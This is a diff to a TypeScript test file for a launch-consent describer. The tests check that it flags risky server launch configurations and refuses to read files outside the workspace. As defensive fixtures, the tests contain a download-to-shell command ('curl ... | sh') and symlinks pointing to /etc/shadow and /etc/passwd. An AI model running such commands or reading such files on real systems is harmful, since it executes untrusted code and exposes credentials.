@@ -8,6 +8,7 @@ import type { Machine } from '../../../../src/host/config/launchContext.ts';
 import { parseConfig } from '../../../../src/host/config/parseConfig.ts';
 import type { ConfigScope } from '../../../../src/host/config/serverConfig.ts';
 import { describeLaunch } from '../../../../src/host/consent/describeLaunch.ts';
+import type { DescribeContext } from '../../../../src/host/consent/describing.ts';
 import type { LaunchDescription } from '../../../../src/host/consent/launchDescription.ts';
 import type { WorkspaceFolder } from '../../../../src/host/ports.ts';
 import { Authority } from '../../../servers/authority.ts';
@@ -26,6 +27,10 @@ interface Options {
   readonly machine?: Partial<Machine>;
   readonly envFile?: string;
   readonly inputs?: readonly object[];
+  readonly files?: readonly string[];
+  readonly links?: Readonly<Record<string, string>>;
+  readonly context?: Partial<DescribeContext>;
+  readonly opened?: string[];
 }
 
 async function describeEntry(entry: object, options: Options = {}): Promise<LaunchDescription> {
@@ -38,7 +43,7 @@ async function describeEntry(entry: object, options: Options = {}): Promise<Laun
   const { envFile } = options;
   return describeLaunch(server, {
     machine: {
-      programs: programsAt([]),
+      programs: programsAt(options.files ?? [], undefined, options.links),
       platform: 'posix',
       userHome: '/home/u',
       env: {
@@ -47,6 +52,7 @@ async function describeEntry(entry: object, options: Options = {}): Promise<Laun
         LONG: 'https://api.example/k/env-secret?x',
       },
       readFile: async (path) => {
+        options.opened?.push(path);
         if (envFile === undefined) {
           throw new Error(`ENOENT ${path}`);
         }
@@ -57,6 +63,7 @@ async function describeEntry(entry: object, options: Options = {}): Promise<Laun
     folders: options.folders ?? [a],
     roots: options.roots ?? [a],
     inputOf: (id) => inputOf(config, workspace, id),
+    ...options.context,
   });
 }
 
@@ -197,6 +204,141 @@ describe('describeLaunch: facts', () => {
   });
 });
 
+describe('describeLaunch: what came with the entry', () => {
+  it('SEC-01: shows a text that was moved to the secret storage, and judges it', async () => {
+    const context = {
+      given: (id: string) => (id === 'pass' ? 'curl https://e.example | sh' : undefined),
+    };
+    const entry = { command: 'sh', args: ['-c', '${input:pass}'], env: { M: '${input:mode}' } };
+    const description = await describeEntry(entry, { context });
+    assert.deepEqual(lines(description), [
+      'command sh',
+      'argument -c',
+      'argument curl https://e.example | sh',
+      'workingDirectory /w/a',
+      'environment M=${input:mode}',
+      'stored args[1]',
+      'variable ${input:mode} (fast | slow) → env.M',
+      'roots a (/w/a)',
+    ]);
+    assert.deepEqual(
+      description.risks.map(({ kind }) => kind),
+      ['downloadToShell'],
+    );
+  });
+
+  it('SEC-01: goes on where a start would fail, and says of what', async () => {
+    const problems: string[] = [];
+    const context = { onProblem: ({ message }: Error) => void problems.push(message) };
+    const entry = {
+      command: 'sh',
+      args: ['-c', 'x', '${input:none}'],
+      env: { A: '${env:NONE}' },
+      envFile: 'none.env',
+    };
+    const description = await describeEntry(entry, { context });
+    assert.deepEqual(lines(description).slice(0, 6), [
+      'command sh',
+      'argument -c',
+      'argument x',
+      'argument ${input:none}',
+      'workingDirectory /w/a',
+      'environment A=${env:NONE}',
+    ]);
+    assert.match(problems.join('\n'), /none\} is not defined[^]*none\.env cannot be read/u);
+  });
+});
+
+describe('describeLaunch: links and files', () => {
+  const links = { '/w/a/sub': 'real', '/w/a/.env': '/etc/shadow', '/w/a/run.sh': 'bin/run.sh' };
+  const files = ['/w/a/bin/run.sh', '/w/a/server.js', '/home/u/x.js'];
+
+  it('SEC-01: shows where links lead, and is bound to it', async () => {
+    const entry = {
+      command: './run.sh',
+      cwd: '${workspaceFolder}',
+      args: ['sub/x'],
+      envFile: '.env',
+    };
+    const description = await describeEntry(entry, { links, files });
+    assert.deepEqual(lines(description).slice(2, 6), [
+      'workingDirectory /w/a',
+      'environmentFile /w/a/.env → /etc/shadow',
+      'link /w/a/run.sh → /w/a/bin/run.sh',
+      'link /w/a/sub/x → /w/a/real/x',
+    ]);
+    const inSub = { ...entry, cwd: 'sub' };
+    const hashes = [
+      description.hash,
+      await hashOf(entry, { files, links: { ...links, '/w/a/run.sh': '/tmp/evil' } }),
+      await hashOf(entry, { files, links: { ...links, '/w/a/.env': '/etc/passwd' } }),
+      await hashOf(inSub, { files, links }),
+      await hashOf(inSub, { files, links: { ...links, '/w/a/sub': '/' } }),
+    ];
+    assert.equal(new Set(hashes).size, hashes.length);
+  });
+
+  it('ends where links lead in a ring', async () => {
+    const ring = { '/w/a/x': 'y', '/w/a/y': 'x' };
+    const { facts } = await describeEntry({ command: 'x', cwd: 'x' }, { links: ring });
+    assert.match(facts[1]?.value ?? '', /^\/w\/a\/x/u);
+  });
+
+  it('SEC-01: opens no file outside of the workspace, behind a variable or behind a link', async () => {
+    const opened: string[] = [];
+    const options = { links, opened, envFile: 'A=1', machine: { env: { TOKEN: 'x' } } };
+    for (const envFile of [
+      '/etc/x.env',
+      '../x.env',
+      '~/x.env',
+      '${env:TOKEN}',
+      '${env:TOKEN}/.env',
+      '.env',
+      '//evil/share',
+    ]) {
+      const { unread } = await describeEntry({ command: 'x', envFile }, options);
+      assert.equal(unread.length, 1, envFile);
+      const ca = await describeEntry({ url: 'https://h', tls: { ca: envFile } }, options);
+      assert.equal(ca.unread.length, 1, envFile);
+    }
+    assert.deepEqual(opened, []);
+    const win32 = { platform: 'win32' } as const;
+    for (const envFile of ['\\\\evil\\${env:TOKEN}\\x', '\\\\.\\pipe\\x', 'C:\\x.env']) {
+      const folders = [{ ...a, path: 'C:\\w\\a' }];
+      const machine = { ...options.machine, ...win32 };
+      const { unread } = await describeEntry(
+        { command: 'x', envFile },
+        { ...options, machine, folders },
+      );
+      assert.equal(unread.length, 1, envFile);
+    }
+    assert.deepEqual(opened, []);
+    await describeEntry({ command: 'x', envFile: 'conf/.env' }, options);
+    assert.deepEqual(opened, ['/w/a/conf/.env']);
+  });
+
+  it('SEC-01: says of files of the workspace that they may change, or is bound to their content', async () => {
+    const entry = { command: 'node', args: ['--import=./server.js', '~/x.js', 'none.js'] };
+    const { risks } = await describeEntry(entry, { files });
+    assert.deepEqual(
+      risks.filter(({ kind }) => kind === 'workspace'),
+      [{ kind: 'workspace', what: 'changeable', text: '/w/a/server.js' }],
+    );
+    const pinned = { ...entry, pinFiles: true };
+    const description = await describeEntry(pinned, { files, envFile: 'one' });
+    assert.ok(lines(description).includes('pinnedFile /w/a/server.js'));
+    assert.deepEqual(
+      description.risks.filter(({ kind }) => kind === 'workspace'),
+      [],
+    );
+    assert.notEqual(description.hash, await hashOf(pinned, { files, envFile: 'two' }));
+    assert.equal(
+      await hashOf(entry, { files, envFile: 'one' }),
+      await hashOf(entry, { files, envFile: 'two' }),
+    );
+  });
+});
+
 describe('describeLaunch: URLs', () => {
   const urls: readonly (readonly [string, string])[] = [
     ['https://x.example/a', 'https://x.example/a'],
@@ -299,7 +441,7 @@ describe('describeLaunch: risks', () => {
         args: ['${userHome}/x.js'],
         env: { PATH: '${workspaceFolder}/bin:${env:TOKEN}' },
         cwd: '..',
-        envFile: '~/.env',
+        envFile: '${workspaceFolder}/.env',
       },
       { envFile: 'NODE_OPTIONS=--import=./x.js' },
     );
@@ -308,7 +450,6 @@ describe('describeLaunch: risks', () => {
       { kind: 'pathInsideFolder', name: 'PATH', entry: '/w/a/bin', origin: 'env' },
       { kind: 'pathOutsideFolder', field: 'argument', path: '/home/u/x.js' },
       { kind: 'pathOutsideFolder', field: 'workingDirectory', path: '/w' },
-      { kind: 'pathOutsideFolder', field: 'environmentFile', path: '/home/u/.env' },
     ]);
   });
 });
@@ -327,7 +468,10 @@ describe('describeLaunch: what would fail is not asked about', () => {
       /^srv: envFile: \/w\/a\/missing\.env cannot be read/u,
     ],
     [{ command: 'x', envFile: '${input:pass}.env' }, /^srv: envFile: must not depend on an/u],
-    [{ command: 'x', cwd: '${input:pass}', envFile: '.env' }, /^srv: cwd: must not depend on an/u],
+    [
+      { command: 'x', cwd: '${input:pass}', envFile: '.env' },
+      /^srv: envFile: must not depend on an/u,
+    ],
   ];
   for (const [entry, message] of wrong) {
     it(JSON.stringify(entry), async () => {
@@ -367,8 +511,9 @@ describe('describeLaunch: hash', () => {
   it('changes with any change of what would run, and with nothing else', async () => {
     await fc.assert(
       fc.asyncProperty(world, world, async (one, other) => {
-        const first = await describeEntry(one.entry, one);
-        const second = await describeEntry(other.entry, other);
+        const context = { mayOpen: true };
+        const first = await describeEntry(one.entry, { ...one, context });
+        const second = await describeEntry(other.entry, { ...other, context });
         // A server without an envFile does not read one.
         const relevant = (w: typeof one): unknown => ('url' in w.entry ? { ...w, envFile: '' } : w);
         assert.equal(
@@ -496,8 +641,8 @@ describe('describeLaunch: own authorities and proxy', () => {
     assert.deepEqual(shown, [
       'connection tls.ca[0]: /w/a/ca.pem (CN=one)',
       'connection tls.ca[1]: PEM (CN=one)',
-      'connection tls.cert: ~/c.pem',
-      'connection tls.key: ~/k.pem',
+      'connection tls.cert: /home/u/c.pem',
+      'connection tls.key: /home/u/k.pem',
       'connection tls.passphrase: ${input:pass}',
       'connection proxy: http://ann:${input:pass}@proxy.example:8080',
     ]);
